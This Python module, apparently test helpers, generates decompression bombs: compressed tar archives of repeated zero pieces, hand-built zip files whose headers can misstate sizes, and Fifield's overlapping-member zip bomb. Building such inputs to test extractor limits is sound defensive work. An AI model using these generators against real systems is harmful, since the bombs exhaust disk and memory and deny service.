"""Archives that unpack to far more than they are. Packed in pieces, so that making them takes no time."""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, replace
from functools import cache
from typing import Final

#: How each kind of compressed tar packs one piece; pieces that follow each other are one stream.
PACKERS: Final[Mapping[str, Callable[[bytes], bytes]]] = {
    "tar.gz": lambda data: gzip.compress(data, 9, mtime=0),
    "tar.bz2": bz2.compress,
    "tar.xz": lzma.compress,
}
#: Bytes of one piece of zeros.
PIECE: Final = 8 * 2**20

END: Final = bytes(2 * tarfile.BLOCKSIZE)


def header(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> bytes:
    """The header of a member of a tar, whatever its name, size and kind."""
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    return info.tobuf(tarfile.GNU_FORMAT)


def member(name: str, data: bytes) -> bytes:
    """A member of a tar as it is in one."""
    return header(name, len(data)) + data + bytes(-len(data) % tarfile.BLOCKSIZE)


@cache
def zeros(form: str) -> bytes:
    """A piece of zeros, packed."""
    return PACKERS[form](bytes(PIECE))


def packed(form: str, *parts: bytes | int) -> bytes:
    """A compressed tar of parts: bytes, or so many pieces of zeros."""
    pack = PACKERS[form]
    return b"".join(zeros(form) * part if isinstance(part, int) else pack(part) for part in parts)


@dataclass(frozen=True)
class ZipEntry:
    """What the list of a zip says of a member. Its own header and bytes may say something else."""

    name: bytes
    method: int
    crc: int
    packed: int
    size: int
    offset: int = 0

    @property
    def _fields(self) -> bytes:
        fields = (20, 0, self.method, 0, 0, self.crc, self.packed, self.size)
        return struct.pack("<5H3I", *fields)

    @property
    def header(self) -> bytes:
        """Its own header, which lies before its bytes."""
        return b"PK\x03\x04" + self._fields + struct.pack("<2H", len(self.name), 0) + self.name

    @property
    def listed(self) -> bytes:
        """Its entry in the list."""
        rest = struct.pack("<5H2I", len(self.name), 0, 0, 0, 0, 0, self.offset)
        return b"PK\x01\x02" + struct.pack("<H", 20) + self._fields + rest + self.name


def zip_end(listed: bytes, begin: int, count: int) -> bytes:
    """The list at the end of a zip, which begins at the byte ``begin``, and what follows it."""
    return listed + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(listed), begin, 0)


def zip_of(members: Iterable[tuple[ZipEntry, bytes]]) -> bytes:
    """A zip of entries, each with its bytes as they are packed."""
    out, listed, count = b"", b"", 0
    for entry, data in members:
        listed += replace(entry, offset=len(out)).listed
        out += entry.header + data
        count += 1
    return out + zip_end(listed, len(out), count)


def overlapping(names: Sequence[bytes], data: bytes) -> bytes:
    """A zip whose members quote the headers of those behind them, so that all unpack the same bytes.

    Fifield, A better zip bomb (2019): quoted overlap.
    """
    deflate = zlib.compressobj(9, wbits=-15)
    kernel = deflate.compress(data) + deflate.flush()
    entry = ZipEntry(names[-1], zipfile.ZIP_DEFLATED, zlib.crc32(data), len(kernel), len(data))
    entries, body, content = [entry], entry.header + kernel, data
    for name in reversed(names[:-1]):
        quoted = entries[0].header
        # A stored block, not the last one, that holds the header of the next member.
        stored = b"\x00" + struct.pack("<2H", len(quoted), 0xFFFF - len(quoted)) + quoted
        content = quoted + content
        packed_size = len(stored) + len(body) - len(quoted)
        entry = ZipEntry(name, zipfile.ZIP_DEFLATED, zlib.crc32(content), packed_size, len(content))
        entries.insert(0, entry)
        body = entry.header + stored[: -len(quoted)] + body
    listed, at = b"", 0
    for entry in entries:
        listed += replace(entry, offset=at).listed
        at += len(entry.header) + 5
    return body + zip_end(listed, len(body), len(entries))
